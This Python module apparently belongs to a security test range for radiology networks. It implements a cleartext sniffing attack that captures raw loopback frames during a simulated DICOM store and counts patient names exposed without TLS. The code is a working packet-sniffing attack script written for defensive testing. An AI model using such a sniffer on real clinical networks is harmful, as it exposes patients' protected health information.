"""Cleartext PHI sniffing on the department's network while a modality stores (T1040).

Sniffing is passive: nothing can see it. Only TLS (not deployed in the range) would stop it.
"""

from __future__ import annotations

import socket
import threading
import time

from radguard.range.attacks.kit import Attack, Context, Outcome

ETH_P_ALL = 0x0003


def run(ctx: Context) -> Outcome:
    needles = [n.encode() for n in ctx.st.patient_names if n]
    seen = {"bytes": 0, "hits": 0}
    stop = threading.Event()

    def sniff() -> None:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        s.bind(("lo", 0))
        s.settimeout(0.2)
        while not stop.is_set():
            try:
                frame = s.recv(65535)
            except TimeoutError:
                continue
            for n in needles:
                if n in frame:
                    seen["hits"] += 1
                    seen["bytes"] += len(n)
        s.close()

    t = threading.Thread(target=sniff, daemon=True)
    t.start()
    time.sleep(0.2)
    ds = ctx.sample()  # the victim: a modality storing a study, as it does all day
    path = ctx.tmpdir() / "victim.dcm"
    ds.save_as(path, enforce_file_format=True)
    ctx.store("CT01", [path])
    time.sleep(0.3)
    stop.set()
    t.join(timeout=2)
    return Outcome(success=seen["bytes"] > 0, impact={"phi_bytes_exposed": seen["bytes"]},
                   note=f"{seen['hits']} frames with a patient name in clear text")


ATTACK = Attack(
    name="cleartext-sniff", title="Cleartext PHI sniffing", attack_ids=("T1040",),
    precondition="a foothold on the department's network segment", objective="PHI bytes read off the wire",
    layers=("tls",), run=run)
